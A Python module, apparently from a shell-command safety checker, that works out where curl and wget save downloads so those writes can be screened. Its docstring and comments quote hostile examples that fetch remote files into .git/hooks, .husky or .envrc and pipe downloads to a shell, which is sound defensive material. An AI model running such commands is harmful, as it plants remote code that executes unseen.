"""The files ``curl`` and ``wget`` save a download as, for :mod:`.shell_commands`.

A download is saved where an option says (``curl -o F``, ``wget -O F``), else under a name
taken from the URL (``curl -O``, ``wget URL``: the last segment of its path) in a directory
an option names (``curl --output-dir D``, ``wget -P D``) or the working directory. Each is
recorded as an overwrite, judged as ``cp``'s destination is (``action.delete_outside``,
``action.credential_write``).

Attack class: ``curl -O --output-dir .git/hooks https://h/pre-commit``, ``wget -P .husky
https://h/pre-commit``, ``wget https://h/.envrc``: an auto-run file saved under the URL's
name, which no ``-o`` named. A name the server chooses (``curl -J``, ``wget
--content-disposition``, a recursive ``wget`` without host directories) is in no argument:
:mod:`.autorun_writes` asks about it in a directory that holds auto-run paths. Pure.
"""

from __future__ import annotations

import posixpath
from typing import Protocol
from urllib.parse import unquote, urlsplit

__all__ = ["FETCHED", "FETCHERS", "curl_saves", "server_named_dirs", "wget_saves"]

#: programs that download what a URL names (curl, wget, HTTPie, xh, libwww-perl's)
FETCHERS = frozenset({"curl", "wget", "wget2", "http", "https", "xh", "xhs", "lwp-request"})
#: what a fetcher writes to a pipe (:func:`cordon.engine._written.piped_text`): it holds
#: :data:`cordon.engine.shell_commands.DYNAMIC` (``"\x00"``), so whatever reads piped text
#: takes it as text not known here, and a shell or interpreter fed it, in a block or through
#: ``tee``/``cat`` (``curl URL | { sh; }``, ``| (bash)``, ``| tee f | sh``), runs remote
#: content unseen, as ``curl URL | sh`` does (``action.pipe_to_shell``)
FETCHED = "\x00fetched"


class _Walker(Protocol):
    def file(self, path: str, program: str, op: str) -> None: ...


def _in(directory: str | None, name: str) -> str:
    if directory is None or name.startswith(("/", "~")):
        return name
    return posixpath.join(directory, name)


def url_name(url: str) -> str:
    """The file name a download of ``url`` is saved as: its path's last segment (decoded,
    as wget decodes it; curl keeps ``%2e``, taken decoded here: fail closed)."""
    try:
        path = urlsplit(url if "://" in url else "http://" + url).path
    except ValueError:
        path = url
    return unquote(posixpath.basename(path))


def curl_saves(w: _Walker, prog: str, plain: list[str], opts: list[tuple[str, str]]) -> None:
    """``curl -o F`` (in ``--output-dir``), ``-O``/``--remote-name(-all)``: each URL's name."""
    directory = next((v for k, v in reversed(opts) if k == "--output-dir" and v), None)
    for k, v in opts:
        if k in ("-o", "--output") and v and v != "-":
            w.file(_in(directory, v), prog, "overwrite")
    names = {"-O", "--remote-name", "--remote-name-all"}
    if any(k in names for k, _ in opts) and not any(k == "-J" for k, _ in opts):
        for url in plain:
            if url_name(url):
                w.file(_in(directory, url_name(url)), prog, "overwrite")


def wget_saves(w: _Walker, prog: str, plain: list[str], opts: list[tuple[str, str]]) -> None:
    """``wget URL`` without ``-O``: the URL's name (``index.html`` for none) in ``-P``."""
    if any(k in ("-O", "--output-document") for k, _ in opts) or server_named(prog, opts):
        return
    directory = next((v for k, v in reversed(opts) if k in ("-P", "--directory-prefix")), None)
    for url in plain:
        w.file(_in(directory or None, url_name(url) or "index.html"), prog, "overwrite")


#: wget options that let the server (or a page's links) choose the saved names
_WGET_SERVER_NAMES = frozenset(
    {"--content-disposition", "--trust-server-names", "-i", "--input-file"}
)
_WGET_RECURSIVE = frozenset({"-r", "--recursive", "-m", "--mirror", "-p", "--page-requisites"})
_WGET_FLAT = frozenset({"-nd", "--no-directories", "-nH", "--no-host-directories"})


def server_named(prog: str, opts: list[tuple[str, str]]) -> bool:
    """The download's names come from the server: ``curl -J``; ``wget --content-disposition``,
    ``--trust-server-names``, ``-i LIST``, or a recursive fetch without the host's directory
    (``-r -nH``, ``-r -nd``: a page's links name the paths)."""
    keys = {k for k, _ in opts}
    if prog == "curl":
        return "-J" in keys or "--remote-header-name" in keys
    recursive = bool(keys & _WGET_RECURSIVE)
    flat = bool(keys & _WGET_FLAT) or any(k in ("-n", "--no") for k in keys)
    return bool(keys & _WGET_SERVER_NAMES) or (recursive and flat)


def server_named_dirs(prog: str, opts: list[tuple[str, str]]) -> list[str]:
    """The directory a download whose names the server chooses is saved in (none else)."""
    if not server_named(prog, opts):
        return []
    keys = ("--output-dir",) if prog == "curl" else ("-P", "--directory-prefix")
    return [next((v for k, v in reversed(opts) if k in keys and v), ".")]
